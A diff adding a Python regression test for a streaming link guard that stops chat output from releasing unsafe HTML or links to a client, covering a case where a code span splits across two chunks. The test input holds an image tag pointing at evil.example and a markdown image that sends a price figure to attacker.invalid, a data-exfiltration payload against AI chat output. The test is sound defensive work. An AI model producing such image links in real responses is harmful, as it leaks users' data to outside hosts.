@@ -130,3 +130,21 @@ def test_a_plain_bracket_inside_a_word_does_not_release_the_start_of_a_bare_addr
     client += guard.flush()
     assert not unsafe(client), client
     assert guard.addresses
+
+
+def test_a_code_span_is_never_released_in_two_parts() -> None:
+    """Found by the property test above (CI, stop 35): a ``<`` right after a code span's closing
+    backticks held the word from its start — inside the code span — so the opening backticks went
+    out alone; the next release's first backticks then closed that span, and ``<img …>``, which
+    the guard had read as code between two runs of backticks, was live HTML in the client."""
+    pieces = ["``Le forfait mensuel est de CHF 4 200 HT``<",
+              "img src=http://evil.example/i.png>``![x](http://attacker.invalid/c?d=4200)"]
+    guard = LinkGuard(EXTRACTS)
+    client = ""
+    for piece in pieces:
+        client += guard.feed(piece)
+        assert client.count("``") % 2 == 0, client  # the released text never ends inside a code span
+        assert not unsafe(client), client
+    client += guard.flush()
+    assert not unsafe(client), client
+    assert "http://evil.example/i.png" in guard.addresses
